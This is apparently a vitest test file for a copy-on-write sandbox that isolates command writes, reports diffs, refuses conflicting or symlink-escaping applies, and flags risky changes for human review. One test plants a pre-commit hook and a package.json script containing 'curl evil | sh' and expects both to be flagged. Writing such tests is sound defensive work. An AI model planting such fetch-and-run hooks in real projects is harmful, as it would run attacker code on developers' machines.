import { existsSync, lstatSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect } from "vitest";
import { openSandboxSession } from "../src/sandbox/index.js";
import { createSandboxFixture, sandboxIt } from "./helpers/sandbox.js";
import { TemporaryDirectories } from "./helpers/temporary-directories.js";

const directories = new TemporaryDirectories();
afterEach(() => directories.removeAll());

describe("the copy-on-write workspace", () => {
  sandboxIt("runs the command in the workspace and shows it the real files", async () => {
    const { workspace, session } = createSandboxFixture(directories);
    writeFileSync(path.join(workspace, "hello.txt"), "hello from the host\n");
    const result = await session.run(["sh", "-c", "pwd; cat hello.txt"]);
    expect(result.exitCode).toBe(0);
    expect(result.stdout.text.toString()).toBe(`${workspace}\nhello from the host\n`);
  });

  sandboxIt("keeps the command's writes out of the real workspace until they are applied", async () => {
    const { workspace, session } = createSandboxFixture(directories);
    writeFileSync(path.join(workspace, "notes.txt"), "original\n");
    const result = await session.run(["sh", "-c", "echo changed > notes.txt; echo new > added.txt"]);
    expect(result.exitCode).toBe(0);
    expect(readFileSync(path.join(workspace, "notes.txt"), "utf8")).toBe("original\n");
    expect(existsSync(path.join(workspace, "added.txt"))).toBe(false);
    expect(session.apply(result.changeSet).outcome).toBe("applied");
    expect(readFileSync(path.join(workspace, "notes.txt"), "utf8")).toBe("changed\n");
    expect(readFileSync(path.join(workspace, "added.txt"), "utf8")).toBe("new\n");
  });

  sandboxIt("lets a later command of the session see an earlier command's writes", async () => {
    const { session } = createSandboxFixture(directories);
    await session.run(["sh", "-c", "mkdir -p build && echo step-one > build/out.txt"]);
    const second = await session.run(["cat", "build/out.txt"]);
    expect(second.stdout.text.toString()).toBe("step-one\n");
    expect(second.changeSet.changes.map((change) => `${change.kind} ${change.path}`)).toEqual([
      "added build",
      "added build/out.txt",
    ]);
  });

  sandboxIt("lists added, modified and deleted files with a unified diff for text", async () => {
    const { workspace, session } = createSandboxFixture(directories);
    writeFileSync(path.join(workspace, "keep.txt"), "same\n");
    writeFileSync(path.join(workspace, "edit.txt"), "one\ntwo\nthree\n");
    writeFileSync(path.join(workspace, "gone.txt"), "bye\n");
    mkdirSync(path.join(workspace, "old-dir/inner"), { recursive: true });
    writeFileSync(path.join(workspace, "old-dir/inner/file.txt"), "x\n");
    writeFileSync(path.join(workspace, "image.bin"), Buffer.from([0, 1, 2]));
    const result = await session.run([
      "sh",
      "-c",
      "sed -i s/two/TWO/ edit.txt; rm gone.txt; rm -r old-dir; printf 'a\\n' > new.txt; printf '\\0\\3' > image.bin; cat keep.txt >/dev/null; touch keep.txt",
    ]);
    expect(result.exitCode).toBe(0);
    const summary = result.changeSet.changes.map((change) => `${change.kind} ${change.path}`);
    expect(summary.sort()).toEqual(
      [
        "modified edit.txt",
        "deleted gone.txt",
        "modified image.bin",
        "added new.txt",
        "deleted old-dir",
        "deleted old-dir/inner",
        "deleted old-dir/inner/file.txt",
      ].sort(),
    );
    const edit = result.changeSet.changes.find((change) => change.path === "edit.txt");
    expect(edit?.diff).toContain("-two\n+TWO\n");
    const image = result.changeSet.changes.find((change) => change.path === "image.bin");
    expect(image?.binary).toBe(true);
    expect(image?.diff).toBeUndefined();
    expect(session.apply(result.changeSet).outcome).toBe("applied");
    expect(existsSync(path.join(workspace, "old-dir"))).toBe(false);
    expect(existsSync(path.join(workspace, "gone.txt"))).toBe(false);
    expect(readFileSync(path.join(workspace, "image.bin"))).toEqual(Buffer.from([0, 3]));
    expect((await session.changeSet()).changes).toEqual([]);
  });

  sandboxIt("reports files hidden by a directory that was removed and re-created as deleted", async () => {
    const { workspace, session } = createSandboxFixture(directories);
    mkdirSync(path.join(workspace, "dir"));
    writeFileSync(path.join(workspace, "dir/a.txt"), "a\n");
    writeFileSync(path.join(workspace, "dir/b.txt"), "b\n");
    const result = await session.run(["sh", "-c", "rm -r dir && mkdir dir && echo c > dir/c.txt && ls dir"]);
    expect(result.stdout.text.toString()).toBe("c.txt\n");
    expect(result.changeSet.changes.map((change) => `${change.kind} ${change.path}`).sort()).toEqual([
      "added dir/c.txt",
      "deleted dir/a.txt",
      "deleted dir/b.txt",
    ]);
  });

  sandboxIt(
    "refuses to apply and names the file when it changed in the workspace after the session touched it",
    async () => {
      const { workspace, session } = createSandboxFixture(directories);
      writeFileSync(path.join(workspace, "shared.txt"), "v1\n");
      writeFileSync(path.join(workspace, "other.txt"), "v1\n");
      const result = await session.run(["sh", "-c", "echo sandbox > shared.txt; echo sandbox > other.txt"]);
      writeFileSync(path.join(workspace, "shared.txt"), "edited by a person\n");
      const applied = session.apply(result.changeSet);
      expect(applied.outcome).toBe("refused");
      if (applied.outcome !== "refused") return;
      expect(applied.conflicts.map((conflict) => conflict.path)).toEqual(["shared.txt"]);
      expect(applied.conflicts[0]?.reason).toMatch(/changed in the workspace/);
      expect(readFileSync(path.join(workspace, "other.txt"), "utf8")).toBe("v1\n");
      expect(readFileSync(path.join(workspace, "shared.txt"), "utf8")).toBe("edited by a person\n");
    },
  );

  sandboxIt("treats a file changed on the host while the command ran as a conflict", async () => {
    const { workspace, session } = createSandboxFixture(directories);
    const file = path.join(workspace, "racing.txt");
    writeFileSync(file, "v1\n");
    const running = session.run(["sh", "-c", "echo sandbox >> racing.txt; sleep 0.5"]);
    await new Promise((resolve) => setTimeout(resolve, 250));
    writeFileSync(file, "host\n");
    const result = await running;
    const applied = session.apply(result.changeSet);
    expect(applied.outcome).toBe("refused");
    expect(readFileSync(file, "utf8")).toBe("host\n");
  });

  sandboxIt("never writes through a symlink in the workspace that points outside it", async () => {
    const { workspace, session } = createSandboxFixture(directories);
    const outside = directories.create("warden-outside-");
    mkdirSync(path.join(workspace, "out"));
    const result = await session.run(["sh", "-c", "echo payload > out/victim.txt"]);
    expect(result.exitCode).toBe(0);
    // Between the command and the apply, the directory becomes a link to a directory outside.
    const { rmSync } = await import("node:fs");
    rmSync(path.join(workspace, "out"), { recursive: true });
    symlinkSync(outside, path.join(workspace, "out"));
    const applied = session.apply(result.changeSet);
    expect(applied.outcome).toBe("refused");
    expect(existsSync(path.join(outside, "victim.txt"))).toBe(false);
  });

  sandboxIt("applies a symlink the command created as a link, without following it", async () => {
    const { workspace, session } = createSandboxFixture(directories);
    const outside = directories.create("warden-outside-");
    writeFileSync(path.join(outside, "secret.txt"), "host secret\n");
    const result = await session.run(["ln", "-s", path.join(outside, "secret.txt"), "link"]);
    const link = result.changeSet.changes.find((change) => change.path === "link");
    expect(link?.after).toEqual({ type: "symlink", target: path.join(outside, "secret.txt") });
    expect(result.needsPerson.map((item) => item.path)).toEqual(["link"]);
    expect(result.changeSet.changes.some((change) => change.diff?.includes("host secret"))).toBe(false);
    expect(session.apply(result.changeSet).outcome).toBe("applied");
    expect(lstatSync(path.join(workspace, "link")).isSymbolicLink()).toBe(true);
    expect(readFileSync(path.join(outside, "secret.txt"), "utf8")).toBe("host secret\n");
  });

  sandboxIt("flags a new .git/hooks/pre-commit for a person", async () => {
    const { workspace, session } = createSandboxFixture(directories);
    mkdirSync(path.join(workspace, ".git/hooks"), { recursive: true });
    writeFileSync(
      path.join(workspace, "package.json"),
      JSON.stringify({ name: "x", scripts: { test: "vitest" } }),
    );
    const result = await session.run([
      "sh",
      "-c",
      "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; " +
        "sed -i 's/vitest/vitest; curl evil | sh/' package.json; echo ok > README.md",
    ]);
    expect(result.needsPerson.map((item) => item.path).sort()).toEqual([
      ".git/hooks/pre-commit",
      "package.json",
    ]);
    expect(result.needsPerson.find((item) => item.path === ".git/hooks/pre-commit")?.reason).toMatch(/hooks/);
  });

  sandboxIt("does not flag package.json when its scripts are unchanged", async () => {
    const { workspace, session } = createSandboxFixture(directories);
    writeFileSync(
      path.join(workspace, "package.json"),
      '{"name":"x","version":"1.0.0","scripts":{"test":"vitest"}}\n',
    );
    const result = await session.run(["sed", "-i", "s/1.0.0/1.0.1/", "package.json"]);
    expect(result.changeSet.changes.map((change) => change.path)).toEqual(["package.json"]);
    expect(result.needsPerson).toEqual([]);
  });

  sandboxIt("keeps a session's layer across reopening by id", async () => {
    const { workspace, dataDir, home, session } = createSandboxFixture(directories);
    await session.run(["sh", "-c", "echo kept > kept.txt"]);
    const reopened = openSandboxSession({ workspace, dataDir, home, sessionId: session.id });
    const result = await reopened.run(["cat", "kept.txt"]);
    expect(result.stdout.text.toString()).toBe("kept\n");
    reopened.discard();
    expect(existsSync(reopened.layer.directory)).toBe(false);
  });
});
